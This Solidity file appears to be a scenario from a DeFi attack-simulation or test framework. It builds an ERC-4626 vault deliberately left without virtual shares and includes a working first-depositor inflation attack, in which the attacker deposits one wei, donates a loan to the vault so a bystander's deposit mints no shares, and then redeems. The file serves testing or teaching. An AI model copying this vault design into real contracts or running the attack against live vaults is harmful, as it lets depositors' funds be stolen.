// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// An ERC-4626 vault without virtual shares.
contract ShareVault is Token {
    IERC20 public immutable asset;

    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);
    event Withdraw(address indexed sender, address indexed receiver, address indexed owner, uint256 assets, uint256 shares);

    constructor(IERC20 asset_) Token("vSHARE", 18) {
        asset = asset_;
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        return totalSupply == 0 ? assets : assets * totalSupply / totalAssets();
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        return totalSupply == 0 ? shares : shares * totalAssets() / totalSupply;
    }

    function deposit(uint256 assets, address to) external returns (uint256 shares) {
        shares = convertToShares(assets);
        asset.transferFrom(msg.sender, address(this), assets);
        _mint(to, shares);
        emit Deposit(msg.sender, to, assets, shares);
    }

    function redeem(uint256 shares, address to, address owner) external returns (uint256 assets) {
        require(owner == msg.sender, "owner");
        assets = convertToAssets(shares);
        _burn(owner, shares);
        asset.transfer(to, assets);
        emit Withdraw(msg.sender, to, owner, assets, shares);
    }
}

contract FirstDepositorScene is Scene {
    Token public usd;
    ShareVault public settled;
    ShareVault public fresh;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        settled = new ShareVault(IERC20(address(usd)));
        fresh = new ShareVault(IERC20(address(usd)));
        usd.mint(address(this), 1_000_000e18);
        usd.approve(address(settled), type(uint256).max);
        settled.deposit(1_000_000e18, address(this));
        _protect(address(settled));
        _protect(address(fresh));
        _loan(IERC20(address(usd)), 400_000e18);
        loot0 = IERC20(address(usd));
        phases = 2;
        atomic = true;
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(settled));
        _arm(usd, users, 0, address(fresh));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 held = settled.balanceOf(who);
        if (held == 0 || dice >> 200 & 1 == 0) {
            return (address(settled), 0, abi.encodeCall(ShareVault.deposit, (_amount(dice, 100e18, 20_000e18), who)));
        }
        return (address(settled), 0, abi.encodeCall(ShareVault.redeem, (held, who, who)));
    }

    function bystander(uint256) external view override returns (address, bytes memory) {
        return (address(fresh), abi.encodeCall(ShareVault.deposit, (390_000e18, address(0xb0b))));
    }
}

contract FirstDepositorAttack is Attack {
    ShareVault private immutable vault;

    constructor(FirstDepositorScene scene) Attack(scene) {
        vault = scene.fresh();
    }

    /// With his own money: between the phases lie other people's transactions.
    function _act(uint256 phase, uint256, uint256) internal override {
        if (phase == 0) {
            loanToken.approve(address(vault), 1);
            vault.deposit(1, address(this));
            loanToken.transfer(address(vault), loanAmount - 1);
        } else {
            vault.redeem(1, address(this), address(this));
        }
    }
}
